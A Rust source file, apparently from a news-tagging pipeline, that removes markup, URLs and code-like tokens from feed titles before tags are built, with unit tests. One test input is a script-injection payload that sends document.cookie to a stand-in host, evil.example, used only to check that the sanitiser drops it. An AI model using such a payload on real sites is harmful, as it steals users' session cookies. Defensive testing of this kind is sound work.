//! Prose for tagging: what is left of a title or text once markup, URLs and
//! code-like tokens are taken out, so that no tag is ever built from them
//! (`#ScriptFetchHttp` from an escaped `<script>` in a feed title).
//!
//! Text reaching enrichment is already plain text, but a publisher can
//! escape markup twice, paste code into a title, or end a paragraph with a
//! URL. Each such span becomes a sentence break, so that no phrase or
//! entity pair bridges it.

use std::borrow::Cow;

/// What replaces a removed span: a break that ends any phrase.
const BREAK: &str = " . ";

/// `s` as prose: markup spans (`<script>…</script>` with their content),
/// URLs and code-like tokens replaced by breaks. Borrowed when there is
/// nothing to take out, which is the common case.
pub fn prose(s: &str) -> Cow<'_, str> {
    if !may_hold_code(s.as_bytes()) {
        return Cow::Borrowed(s);
    }
    let without_markup = strip_markup(s);
    // Whitespace is copied as it was: line breaks bound sentences and
    // paragraphs for the tagger.
    let mut out = String::with_capacity(without_markup.len());
    let mut rest = without_markup.as_str();
    while !rest.is_empty() {
        let token_len = rest.find(char::is_whitespace).unwrap_or(rest.len());
        let (token, after) = rest.split_at(token_len);
        out.push_str(if is_code_like(token) { BREAK.trim() } else { token });
        let space_len = after.find(|c: char| !c.is_whitespace()).unwrap_or(after.len());
        out.push_str(&after[..space_len]);
        rest = &after[space_len..];
    }
    Cow::Owned(out)
}

/// Whether `b` may hold markup, a URL or code: one pass over the bytes that
/// looks only for what [`is_code_like`] and the markup stripper react to,
/// so that ordinary prose (nearly every text) costs a scan and no token
/// work. A `true` may be wrong; a `false` never is.
fn may_hold_code(b: &[u8]) -> bool {
    let alnum = |i: usize| b.get(i).is_some_and(u8::is_ascii_alphanumeric);
    for (i, &c) in b.iter().enumerate() {
        let suspicious = match c {
            b'<' | b'>' | b'{' | b'}' | b'=' | b'|' | b'@' => true,
            // An identifier ("snake_case"), not a row of underscores.
            b'_' => i > 0 && alnum(i - 1) && alnum(i + 1),
            // A call: "alert(1)".
            b'(' => i > 0 && alnum(i - 1),
            // A path after a host name ("example.com/a"), or "www.".
            b'/' => i > 0 && alnum(i - 1),
            b'.' => i >= 3 && b[i - 3..i].eq_ignore_ascii_case(b"www"),
            // "://", or a scheme ("javascript:"), not "he said:".
            b':' => {
                b[i + 1..].starts_with(b"//") || {
                    let start = b[..i].iter().rposition(|c| !c.is_ascii_alphabetic()).map_or(0, |p| p + 1);
                    let word = &b[start..i];
                    SCHEMES.iter().any(|s| s.as_bytes()[..s.len() - 1].eq_ignore_ascii_case(word))
                }
            }
            _ => false,
        };
        if suspicious {
            return true;
        }
    }
    false
}

/// Elements whose content is code, dropped with their tags.
const CODE_ELEMENTS: &[&str] = &["script", "style"];

/// `s` without anything that looks like a tag (`<b>`, `</p>`, `<img …/>`),
/// and without the content of script and style elements.
fn strip_markup(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(lt) = rest.find('<') {
        out.push_str(&rest[..lt]);
        let after = &rest[lt + 1..];
        let starts_tag = after.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/' || c == '!');
        let Some(gt) = after.find('>').filter(|_| starts_tag) else {
            // A lone '<' ("a < b") is prose.
            out.push('<');
            rest = after;
            continue;
        };
        out.push_str(BREAK);
        let name: String =
            after.chars().take_while(|c| c.is_ascii_alphanumeric()).collect::<String>().to_ascii_lowercase();
        rest = &after[gt + 1..];
        if CODE_ELEMENTS.contains(&name.as_str()) {
            let close = format!("</{name}");
            rest = match find_ascii_ci(rest, &close) {
                Some(end) => rest[end..].find('>').map_or("", |g| &rest[end + g + 1..]),
                None => "",
            };
        }
    }
    out.push_str(rest);
    out
}

/// The byte offset of `needle` (ASCII) in `hay`, ignoring ASCII case.
fn find_ascii_ci(hay: &str, needle: &str) -> Option<usize> {
    let (h, n) = (hay.as_bytes(), needle.as_bytes());
    (0..h.len().saturating_sub(n.len() - 1)).find(|&i| h[i..i + n.len()].eq_ignore_ascii_case(n))
}

/// URL schemes whose appearance makes a token a URL.
const SCHEMES: &[&str] = &["http:", "https:", "ftp:", "javascript:", "data:", "vbscript:", "mailto:", "file:"];

/// Whether a whitespace-separated token is a URL, an e-mail address,
/// markup residue or code, rather than a word of prose (punctuation around
/// words is prose, and so is a company written as its domain, "Sohu.com").
pub fn is_code_like(token: &str) -> bool {
    let word = token.trim_start_matches(|c: char| !c.is_alphanumeric());
    if word.is_empty() {
        return false; // punctuation alone: "<", "--"
    }
    let starts_with = |p: &str| word.get(..p.len()).is_some_and(|w| w.eq_ignore_ascii_case(p));
    if token.contains("://") || starts_with("www.") || SCHEMES.iter().any(|s| starts_with(s)) {
        return true;
    }
    let core = token.trim_end_matches(['.', ',', ';', ':', '!', '?', ')', '"', '\'', '\u{201d}', '\u{2019}']);
    if core.contains(['<', '>', '=', '|']) {
        return true;
    }
    // Template or object syntax ("${x}", "{{x}}", "{\"a\":1}"); a word in
    // braces is an editor's annotation in some wire copy, and prose.
    if core.contains(['{', '}']) && (core.contains("{{") || core.contains("${") || core.contains([':', '"', ';'])) {
        return true;
    }
    let b = core.as_bytes();
    // An e-mail address, or a host name with a path ("twitter.com/a", but
    // not "U.S./Mexican": a host ends in a top-level label of letters).
    let host_path = b.iter().position(|&c| c == b'/').is_some_and(|slash| has_tld(&b[..slash]));
    let email = b.iter().position(|&c| c == b'@').is_some_and(|at| has_tld(&b[at + 1..]));
    // An identifier ("snake_case"); newswire's ``quotes'', AG News's
    // backslashed line breaks and rows of underscores are prose.
    let identifier = b.windows(3).any(|w| w[1] == b'_' && w[0].is_ascii_alphanumeric() && w[2].is_ascii_alphanumeric());
    // A call ("alert(1)", "fetch('x')").
    let call = b.windows(2).any(|w| w[0].is_ascii_alphanumeric() && w[1] == b'(');
    host_path || email || identifier || call
}

/// Whether `host` has a dot followed by a last label of two or more letters.
fn has_tld(host: &[u8]) -> bool {
    host.iter().rposition(|&c| c == b'.').is_some_and(|dot| {
        let tld = &host[dot + 1..];
        dot > 0 && tld.len() >= 2 && tld.iter().all(u8::is_ascii_alphabetic)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_prose_is_borrowed_unchanged() {
        let s = "China and Kazakhstan (AP) signed a deal; the U.S. said: \"no\" - e.g. in 2024, ``Sohu.com'' too.\\";
        assert!(matches!(prose(s), Cow::Borrowed(_)));
    }

    #[test]
    fn issue_14_escaped_script_in_a_title_leaves_no_words() {
        let t = prose("<script>fetch('http://evil.example/x?c='+document.cookie)</script> Floods hit Valencia");
        assert!(!t.contains("fetch") && !t.contains("script") && !t.contains("cookie"), "{t}");
        assert!(t.contains("Floods hit Valencia"), "{t}");
    }

    #[test]
    fn issue_14_urls_and_code_tokens_become_breaks() {
        let t = prose("Read more at https://example.com/a or www.example.org, mail me@example.com, call alert(1) now");
        assert!(!t.contains("example") && !t.contains("alert"), "{t}");
        assert!(t.contains("Read more at") && t.contains("now"), "{t}");
    }

    #[test]
    fn abbreviations_before_a_slash_are_prose() {
        let s = "cross the U.S./Mexican border, a 12 1/2-hour ride, St./Ave. and/or e.g./i.e.";
        assert!(!s.split_whitespace().any(is_code_like), "{s}");
        assert!(is_code_like("twitter.com/someone") && is_code_like("me@example.com"));
    }

    #[test]
    fn line_breaks_survive_where_code_is_removed() {
        assert_eq!(prose("One line.\n\nsee x.com/a then\tmore"), "One line.\n\nsee . then\tmore");
    }

    #[test]
    fn a_lone_less_than_sign_is_prose() {
        assert_eq!(prose("inflation < 2% this year"), "inflation < 2% this year");
    }

    #[test]
    fn tags_are_dropped_but_their_text_kept() {
        assert_eq!(prose("<b>Bold</b> move"), " . Bold .  move");
    }

    #[test]
    fn the_quick_scan_never_misses_what_the_token_check_finds() {
        let samples = [
            "see https://example.com/a",
            "javascript:alert(1)",
            "call alert(1) now",
            "twitter.com/someone",
            "me@example.com",
            "x=1",
            "<b>bold</b>",
            "snake_case",
            "it#39;s",
            "{\"a\":1}",
            "${x}",
            "www.example.org",
            "data:text/html,x",
            "Plain prose, with (parentheses) and U.S. names: e.g. this; and that.",
        ];
        for s in samples {
            let by_tokens = s.split_whitespace().any(is_code_like) || s.contains('<');
            assert!(!by_tokens || may_hold_code(s.as_bytes()), "{s}");
        }
    }
}
